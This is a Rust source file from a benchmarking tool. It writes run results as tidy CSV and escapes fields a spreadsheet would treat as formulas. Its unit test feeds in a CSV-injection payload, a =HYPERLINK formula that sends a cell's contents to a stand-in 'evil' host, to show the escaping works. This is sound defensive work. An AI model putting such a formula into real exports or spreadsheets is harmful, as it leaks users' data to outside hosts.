//! CSV export in long ("tidy") form: one value per line, summary figures and timeline alike.
//!
//! Columns: `run_id,kind,workload,engine,state,metric,unit,second,value`. `state` is how the
//! run ended (`complete`, `failed`, `interrupted`, …: a failed run's figures are never read
//! as a complete run's); `second` is empty for summary figures and set for timeline rows
//! (`timeline.docs`, `timeline.service_mean_ms`, …). `report --csv` writes it of the runs
//! it shows, `--export-csv` of each run a command makes: one renderer, the same lines.

use std::fmt::Write as _;

use serde_json::Value;

use super::Loaded;

/// Quotes a field when it needs it (RFC 4180). A field a spreadsheet would read as a formula
/// (one beginning `=`, `+`, `-`, `@`, a tab or a carriage return: a workload named
/// `=HYPERLINK(…)`, an engine's version as a server says it) is written as text, a `'` before
/// it, as OWASP advises: opening the export runs nothing. Figures are written as numbers, not
/// through here.
pub fn field(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula || s.contains([',', '"', '\n', '\r']) {
        let tick = if formula { "'" } else { "" };
        format!("\"{tick}{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

pub const HEADER: &str = "run_id,kind,workload,engine,state,metric,unit,second,value";

pub fn render(runs: &[&Loaded]) -> String {
    let mut s = format!("{HEADER}\n");
    for l in runs {
        lines(l, &mut s);
    }
    s
}

/// The lines of one run (no header), appended to `s`.
pub fn lines(l: &Loaded, s: &mut String) {
    let r = &l.row;
    let prefix = format!(
        "{},{},{},{},{}",
        field(&r.id.0),
        field(&r.kind),
        field(&r.workload_shown()),
        field(r.engine.as_deref().unwrap_or("")),
        r.state.name()
    );
    for m in l.metrics() {
        let _ = writeln!(
            s,
            "{prefix},{},{},,{}",
            field(&m.key),
            field(&m.unit),
            m.value
        );
    }
    for row in &l.timeline {
        let Some(second) = row.get("second").and_then(Value::as_u64) else {
            continue;
        };
        let Some(obj) = row.as_object() else { continue };
        for (k, v) in obj {
            if k == "second" {
                continue;
            }
            if let Some(v) = v.as_f64() {
                let _ = writeln!(
                    s,
                    "{prefix},{},,{second},{v}",
                    field(&format!("timeline.{k}"))
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::field;

    /// A name a spreadsheet would run is written as text; a plain one as it is; quoting as
    /// RFC 4180 has it.
    #[test]
    fn a_field_a_spreadsheet_would_run_is_written_as_text() {
        assert_eq!(
            field("=HYPERLINK(\"https://evil/?\"&A2,\"open\")"),
            "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"open\"\")\""
        );
        for lead in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(field(lead).starts_with("\"'"), "{lead:?}: {}", field(lead));
        }
        assert_eq!(field("logs"), "logs");
        assert_eq!(field("opensearch-2.19.1"), "opensearch-2.19.1");
        assert_eq!(field("a,b"), "\"a,b\"");
    }
}
